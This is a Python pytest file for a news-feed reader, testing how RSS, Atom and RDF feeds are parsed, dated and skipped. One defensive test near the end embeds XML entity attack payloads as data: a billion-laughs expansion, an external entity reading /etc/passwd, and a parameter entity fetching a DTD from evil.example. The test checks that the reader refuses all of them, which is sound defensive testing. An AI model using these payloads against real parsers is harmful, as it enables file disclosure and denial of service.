from __future__ import annotations

import datetime as dt
import socket
from collections.abc import Callable

import pytest

from searchkit.article import Article, Item, Note, Skip
from searchkit.extraction import annotate

Read = Callable[..., list[Item]]
One = Callable[..., Article]
SkipOf = Callable[..., Skip]

RSS = """<?xml version="1.0" encoding="utf-8"?>
<rss version="2.0" xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:content="http://purl.org/rss/1.0/modules/content/">
<channel><title>Harbour Gazette</title><link>https://hg.example/</link><language>en-gb</language>
<item><title>Ferry &amp;amp; bridge</title><link>https://hg.example/1</link><guid isPermaLink="false">hg-1</guid>
<pubDate>Tue, 17 Nov 2015 16:07:00 +0100</pubDate><dc:creator>Ruth Callowmere</dc:creator><category>Ships</category>
<description>Short.</description><content:encoded><![CDATA[<p>The whole text.</p><p>In two paragraphs.</p>]]></content:encoded></item>
<item><title>Second</title><guid>https://hg.example/2</guid><description>Only &lt;b&gt;this&lt;/b&gt;.</description></item>
</channel></rss>"""
ATOM = """<feed xmlns="http://www.w3.org/2005/Atom" xml:lang="de"><title>Continental Review</title>
<entry><id>tag:cr.example,2013:7</id><title>Kroatien</title><updated>2013-07-01T08:00:00Z</updated>
<link rel="alternate" href="https://cr.example/7"/><author><name>Jonas Feldrainer</name></author>
<content type="xhtml"><div xmlns="http://www.w3.org/1999/xhtml"><p>Der Text.</p></div></content></entry></feed>"""
RDF = """<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns="http://purl.org/rss/1.0/"
xmlns:dc="http://purl.org/dc/elements/1.1/"><channel rdf:about="https://old.example/"><title>Old</title></channel>
<item rdf:about="https://old.example/1"><title>One</title><link>https://old.example/1</link>
<description>Text.</description><dc:date>2001-02-03</dc:date></item></rdf:RDF>"""


def test_an_entry_states_what_the_feed_says_of_it(read: Read) -> None:
    first, second = read("news.xml", RSS.encode())
    assert isinstance(first, Article)
    assert (first.record, first.kind, first.stated_in) == ("hg-1", "record", "feed")
    assert first.given == {
        "id": ("hg-1",),
        "url": ("https://hg.example/1",),
        "title": ("Ferry &amp; bridge",),
        "summary": ("Short.",),
        "author": ("Ruth Callowmere",),
        "source": ("Harbour Gazette",),
        "section": ("Ships",),
        "lang": ("en-gb",),
        "date": ("Tue, 17 Nov 2015 16:07:00 +0100",),
    }
    assert isinstance(second, Article)
    assert second.content == "Only <b>this</b>."
    assert "date" not in second.given


def test_the_date_of_a_feed_has_the_origin_feed(read: Read) -> None:
    article = read("news.rss", RSS.encode())[0]
    assert isinstance(article, Article)
    found = annotate(article, today=dt.date(2026, 1, 1), entities=False)
    date = found.date()
    assert date is not None
    assert (date.origin, date.printed) == ("feed", "2015-11-17T16:07:00+01:00")
    assert (found.title, found.body) == ("Ferry & bridge", "The whole text.\nIn two paragraphs.")


@pytest.mark.parametrize("name", ["a.atom", "a.xml", "a.txt", "a", "a.html"])
def test_atom_is_told_by_its_root_and_its_last_change_is_its_date(one: One, name: str) -> None:
    article = one(name, ATOM.encode())
    assert article.record == "tag:cr.example,2013:7"
    assert article.given["date"] == article.given["updated"] == ("2013-07-01T08:00:00Z",)
    assert article.given["lang"] == ("de",)
    assert "Der Text." in article.content


def test_rss_1_has_its_date_from_dublin_core(one: One) -> None:
    assert one("a.rdf", RDF.encode()).given["date"] == ("2001-02-03",)


@pytest.mark.parametrize("end", range(300, len(RSS) - 8, 37))
def test_a_feed_cut_anywhere_gives_the_entries_before_and_says_so(read: Read, end: int) -> None:
    *articles, skip = read("news.xml", RSS[:end].encode())
    n_whole = RSS[:end].count("</item>")
    assert [a.record for a in articles if isinstance(a, Article)] == ["hg-1", "https://hg.example/2"][:n_whole]
    assert isinstance(skip, Skip)
    assert "breaks off" in skip.reason


def test_a_feed_that_is_not_well_formed_is_read_and_noted(read: Read) -> None:
    broken = RSS.replace("<title>Second</title>", "<title>Second & last</title><b>")
    *articles, note = read("news.xml", broken.encode())
    assert [a.given["title"][0] for a in articles if isinstance(a, Article)] == ["Ferry &amp; bridge", "Second & last"]
    assert isinstance(note, Note)
    assert "not well-formed" in note.text


def test_a_feed_without_entries_is_skipped(skip: SkipOf) -> None:
    empty = "<rss version='2.0'><channel><title>Nothing yet</title></channel></rss>"
    assert skip("a.xml", empty.encode()).reason == "there are no entries in the feed"


LAUGHS = '<!ENTITY a "ha">' + "".join(
    f'<!ENTITY {y} "{f"&{x};" * 10}">' for x, y in zip("abcdefgh", "bcdefghi", strict=True)
)


@pytest.mark.parametrize("root", ["rss", "nitf", "newsMessage"])
@pytest.mark.parametrize(
    "declared",
    [
        LAUGHS,
        '<!ENTITY i SYSTEM "file:///etc/passwd">',
        '<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;',
        "<!-- <x> --> <!ENTITY i 'x'>",
    ],
    ids=["billion laughs", "external", "parameter", "behind a comment"],
)
def test_xml_with_entities_of_its_own_is_refused(
    skip: SkipOf, root: str, declared: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    def refuse(*_: object, **__: object) -> None:
        raise AssertionError("a reader must not use the network")

    monkeypatch.setattr(socket.socket, "connect", refuse)
    xml = f'<?xml version="1.0"?><!-- x --><!DOCTYPE {root} [{declared}]><{root}><channel><item><title>&i;</title></item></channel></{root}>'
    assert "declares entities" in skip("a.xml", xml.encode()).reason


def test_a_title_that_looks_like_an_address_is_not_fetched(one: One, monkeypatch: pytest.MonkeyPatch) -> None:
    def refuse(*_: object, **__: object) -> None:
        raise AssertionError("a reader must not use the network")

    monkeypatch.setattr(socket.socket, "connect", refuse)
    assert one("a.xml", ATOM.encode()).stated_in == "feed"


def test_xml_of_another_kind_names_its_root(skip: SkipOf) -> None:
    assert "<invoice>" in skip("a.xml", b"<?xml version='1.0'?><invoice><n>1</n></invoice>").reason
